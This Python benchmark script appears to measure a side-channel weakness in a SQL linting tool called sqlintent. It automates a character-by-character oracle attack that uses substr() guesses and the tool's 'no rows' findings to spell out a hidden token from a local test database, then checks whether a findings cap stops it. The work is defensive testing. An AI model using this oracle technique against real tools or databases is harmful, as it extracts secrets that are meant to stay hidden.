"""The findings oracle of issue 37, measured: how many statements (and runs) spell a 26-character token out of
a table through which statements get a finding, with ``CI=true`` (stored values hidden).

The attacker writes one statement per (position, character) and reads the findings of ``sqlintent check``:

- ``wrong`` (the issue's attack): ``SELECT id FROM secrets WHERE substr(token, i, 1) = 'c'``; SIR001 ("no
  rows") fires on every wrong guess, so the one statement of a position without it names the character;
- ``right``: ``... substr(token, i, 1) <> 'c'``; SIR001 fires only on the right guess (findings are rare, so a
  cap on findings is reached late).

Each run the attacker sends the statements of the positions still unknown (at most ``--per-run`` of them)
and learns every statement answered before the first SIX002 that names the cap (a statement after it was not
probed). A run that answers nothing ends the attack ("refused"). Three targets: a key (``sk_live_...``) in
a column named ``token``, plain words in a column named ``token``, and the same words in one named ``note``.

    python benchmarks/bench_oracle.py                      # this checkout
    python benchmarks/bench_oracle.py --code /path/to/old  # another checkout's sqlintent (e.g. before)
"""
from __future__ import annotations

import argparse
import os
import re
import sqlite3
import string
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ALPHABET = string.ascii_letters + string.digits + "_"  # 63 characters
# (value, column): a key in a column named token; plain words in a column named token (the name gives it
# away) and in one named note (nothing does: only the cap stands in the way)
TOKENS = {"key": ("sk_live_51HqLyjWDarjtT1zdp", "token"), "words": ("quietmeadowlanternharbourx", "token"),
          "note": ("quietmeadowlanternharbourx", "note")}  # 26 characters each
OPS = {"wrong": "=", "right": "<>"}


def _db(folder: Path, token: str, column: str) -> Path:
    path = folder / "app.db"
    path.unlink(missing_ok=True)
    db = sqlite3.connect(path)
    db.execute(f"CREATE TABLE secrets (id INTEGER PRIMARY KEY, {column} TEXT)")
    db.execute(f"INSERT INTO secrets ({column}) VALUES (?)", (token,))
    db.commit()
    db.close()
    return path


def _run(folder: Path, code: Path, questions: list[tuple[int, str]], op: str, column: str) -> str:
    text = "".join(f"-- intent: is it\nSELECT id FROM secrets WHERE substr({column}, {i}, 1) {op} '{c}';\n"
                   for i, c in questions)
    (folder / "attack.sql").write_text(text, encoding="utf-8")
    env = dict(os.environ, PYTHONPATH=str(code), CI="true", SQLINTENT_CACHE_DIR=str(folder / ".cache"))
    env.pop("SQLINTENT_SHOW_VALUES", None)
    proc = subprocess.run([sys.executable, "-m", "sqlintent", "check", "attack.sql", "--db", "app.db",
                           "--no-model", "--select", "SIR,SIX", "--no-cache"], cwd=folder, env=env,
                          capture_output=True, text=True, timeout=3600)
    return proc.stdout


def attack(code: Path, token: str, column: str, strategy: str, per_run: int, max_runs: int) -> dict:
    op = OPS[strategy]
    known: dict[int, str] = {}
    tried: dict[int, set] = {i: set() for i in range(1, len(token) + 1)}
    sent = runs = 0
    started = time.monotonic()
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        _db(folder, token, column)
        while len(known) < len(token) and runs < max_runs:
            questions = [(i, c) for i in sorted(tried) if i not in known for c in ALPHABET
                         if c not in tried[i]][:per_run]
            out = _run(folder, code, questions, op, column)
            runs += 1
            sent += len(questions)
            fired = {int(m.group(1)) for m in re.finditer(r"^attack\.sql:(\d+):\d+: SIR001", out, re.M)}
            cut = [int(m.group(1)) for m in re.finditer(r"^attack\.sql:(\d+):\d+: SIX002", out, re.M)]
            first_cut = min(cut) if cut else None
            answered = 0
            for k, (i, c) in enumerate(questions):
                line = 2 * k + 2
                if first_cut is not None and line >= first_cut:
                    break
                answered += 1
                tried[i].add(c)
                if (line in fired) == (strategy == "right"):
                    known[i] = c
            if answered == 0:
                break  # refused: nothing of this run was answered
    spelled = "".join(known.get(i, "?") for i in range(1, len(token) + 1))
    return {"spelled": spelled == token, "known": len(known), "statements": sent, "runs": runs,
            "seconds": round(time.monotonic() - started, 1)}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--code", type=Path, default=Path(__file__).resolve().parents[1],
                    help="the checkout whose sqlintent is measured (PYTHONPATH)")
    ap.add_argument("--per-run", type=int, default=26 * len(ALPHABET), help="statements sent per run at most")
    ap.add_argument("--max-runs", type=int, default=60)
    ap.add_argument("--tokens", default="key,words,note")
    ap.add_argument("--strategies", default="wrong,right")
    args = ap.parse_args()
    print(f"sqlintent from {args.code}; {len(ALPHABET)} characters; at most {args.per_run} statements a run")
    for name in args.tokens.split(","):
        for strategy in args.strategies.split(","):
            r = attack(args.code, *TOKENS[name], strategy, args.per_run, args.max_runs)
            print(f"token={name:5} strategy={strategy:5} spelled={r['spelled']!s:5} characters={r['known']:2}/{len(TOKENS[name][0])} "
                  f"statements={r['statements']:6} runs={r['runs']:3} seconds={r['seconds']}", flush=True)


if __name__ == "__main__":
    main()
